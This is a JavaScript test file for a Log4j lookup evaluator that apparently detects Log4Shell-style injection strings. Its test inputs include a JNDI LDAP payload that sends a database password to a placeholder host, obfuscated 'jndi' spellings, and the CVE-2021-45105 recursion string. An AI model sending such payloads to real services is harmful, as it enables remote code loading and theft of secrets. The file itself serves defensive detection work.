import { test } from 'node:test';
import assert from 'node:assert/strict';
import { evaluateLookups } from './lookups.js';

test('resolves the character-spelling lookups the way Log4j does', () => {
  assert.equal(evaluateLookups('${lower:ABC}-${upper:d}').resolved, 'abc-D');
  assert.equal(evaluateLookups('${::-x}${env:NOPE:-y}${k8s:k5:-ND}').resolved, 'xyND');
  assert.equal(evaluateLookups("${date:'j'}${date:'n'd}").resolved, 'jn');
  assert.equal(evaluateLookups('${${lower:J}${upper:n}di:x}').obfuscatedJndi, '${${lower:J}${upper:n}di:x}');
});

test('unknown lookups without a default stay as written; unclosed ones stay text', () => {
  assert.equal(evaluateLookups('a ${name} b').resolved, 'a ${name} b');
  assert.equal(evaluateLookups('${env:HOME}').resolved, '${env:HOME}');
  assert.equal(evaluateLookups('${a${lower:B}').resolved, '${ab');
  assert.equal(evaluateLookups('}}${').resolved, '}}${');
});

test('notes jndi, sensitive, environment and spelling lookups separately', () => {
  const findings = evaluateLookups('${jndi:ldap://h/${env:DB_PASSWORD}${env:HOME}} ${::-a}');
  assert.deepEqual([findings.jndi, findings.sensitive, findings.environment, findings.spelling],
    ['${jndi:ldap://h/${env:DB_PASSWORD}${env:HOME}}', '${env:DB_PASSWORD}', '${env:HOME}', '${::-a}']);
  assert.equal(evaluateLookups('${lower:jndi}').spelling, undefined, 'four characters are a word, not a spelled character');
});

test('nesting is followed to a bound, beyond which `${` is text', () => {
  const deep = `${'${'.repeat(30)}lower:X${'}'.repeat(30)}`;
  assert.ok(evaluateLookups(deep).resolved.length > 0);
});

test('an escaped lookup inside nested lookups is the recursion of CVE-2021-45105; one level deep it is an escape', () => {
  assert.equal(evaluateLookups('x ${${::-${::-$${::-j}}}} y').recursive, '${${::-${::-$${::-j}}}} y');
  assert.equal(evaluateLookups('${replace(a, "$${", "")}').recursive, undefined);
  assert.equal(evaluateLookups('$${x} ${a}').recursive, undefined);
});

test('secret environment variables by word, not by substring', () => {
  for (const name of ['AWS_SECRET_ACCESS_KEY', 'GITHUB_TOKEN', 'DB_PASSWORD', 'api-key', 'AWS_REGION']) assert.ok(evaluateLookups(`\${env:${name}}`).sensitive, name);
  for (const name of ['MONKEY', 'AUTHOR', 'HOSTNAME', 'PASSAGE']) assert.equal(evaluateLookups(`\${env:${name}}`).sensitive, undefined, name);
});
